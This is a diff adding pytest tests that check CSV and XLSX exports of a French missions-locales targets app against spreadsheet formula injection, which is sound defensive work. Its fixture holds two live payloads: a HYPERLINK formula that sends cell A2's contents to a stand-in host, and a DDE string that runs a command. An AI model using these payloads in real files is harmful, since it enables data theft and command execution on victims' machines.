@@ -48,3 +48,41 @@ def test_xlsx_has_french_headers_and_numbers(client, users):
     sheet = book["Cibles"]
     assert sheet["B1"].value == "Code ML"
     assert sheet["J2"].value == 20.0  # 35001's 2024 value of indicator 1
+
+
+POISON_NAME = '=HYPERLINK("http://exemple.invalid/?"&A2,"Voir")'
+POISON_REASON = "@SUM(1+1)*cmd|' /C calc'!A0"
+
+
+@pytest.fixture
+def poisoned(users, figures, monkeypatch):
+    """35001 named like a formula, with a target whose justification is one too."""
+    import dataclasses
+
+    from perfml.web.figures.store import current_snapshot
+
+    mls = current_snapshot().mls
+    monkeypatch.setitem(mls, "35001", dataclasses.replace(mls["35001"], nom=POISON_NAME))
+    set_targets(
+        users["DREETS_UR"],
+        campaign_of("35001", 2025),
+        [TargetEntry(1, 99.0, "saisie", POISON_REASON)],
+        figures,
+    )
+
+
+def test_csv_neutralises_poisoned_names_and_justifications(client, users, poisoned):
+    client.force_login(users["ML"])
+    header, *rows = csv_rows(client)
+    named = [dict(zip(header, row, strict=True)) for row in rows]
+    assert {r["Mission locale"] for r in named} == {"'" + POISON_NAME}
+    assert "'" + POISON_REASON in {r["Justification"] for r in named}
+
+
+def test_xlsx_writes_poisoned_text_as_text_never_as_a_formula(client, users, poisoned):
+    client.force_login(users["ML"])
+    book = openpyxl.load_workbook(io.BytesIO(client.get("/dialogue/cibles.xlsx").content))
+    cells = [cell for row in book["Cibles"].iter_rows() for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    texts = {cell.value for cell in cells if cell.data_type == "s"}
+    assert {POISON_NAME, POISON_REASON} <= texts
